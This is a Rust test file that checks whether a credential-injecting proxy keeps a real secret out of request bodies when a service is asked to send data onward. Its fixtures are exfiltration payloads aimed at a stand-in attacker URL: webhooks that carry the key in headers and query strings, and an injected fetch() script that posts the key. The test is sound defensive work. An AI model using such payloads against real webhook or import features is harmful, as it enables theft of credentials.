//! G8: the allowed service makes requests for whoever asks: webhooks with headers of one's own, "import from URL".
//! What it is asked to send is in a body, and nothing is put into bodies.

use serde_json::json;

use crate::{
    ensure,
    scene::{Scene, Verdict, noleak},
    upstream::text,
    world::World,
};

pub(crate) async fn case(world: &'static World) -> Verdict {
    let scene = Scene::new(world, "G8").await;
    let lease = scene.lease().await;
    let (ph, bearer) = (lease.ph("KEY"), lease.bearer("KEY"));
    let headers = [("Authorization", bearer.as_str()), ("Content-Type", "application/json")];
    scene.on("/webhooks", |_| text("saved"));
    for body in [
        json!({"url": scene.evil_url("/hook"), "headers": {"Authorization": bearer, "X-Key": ph}}),
        json!({"url": format!("{}?k={ph}", scene.evil_url("/hook")), "secret": ph}),
        json!({"import": {"from": scene.evil_url("/x"), "with": {"token": ph}}}),
        json!({"page": {"goto": scene.evil_url("/x"), "script": format!("fetch('{}', {{body: '{ph}'}})", scene.evil_url("/x"))}}),
    ] {
        let answer = scene.ask(&lease, "POST", "/webhooks", &headers, body.to_string().as_bytes()).await;
        ensure!(answer.status == 200, "{}", answer.text());
        let seen = scene.last();
        ensure!(seen.body() == body.to_string().as_bytes(), "the body was changed: {}", seen.text());
        noleak(&scene.s, "the body", seen.body())?;
        ensure!(seen.header("authorization") == Some(format!("Bearer {}", scene.s)), "S did not arrive");
    }
    // The same as a step: a reference cannot stand in a body that no destination names.
    let body = json!({"json": {"headers": {"X-Key": "{{secrets.KEY}}"}}});
    let step =
        json!({"method": "POST", "url": scene.url("/webhooks"), "auth": {"secret": "KEY"}, "body": body});
    scene.deny_reply(&scene.sealed(&step).await, 403, "placement_not_allowed").await?;
    scene.nosend()
}
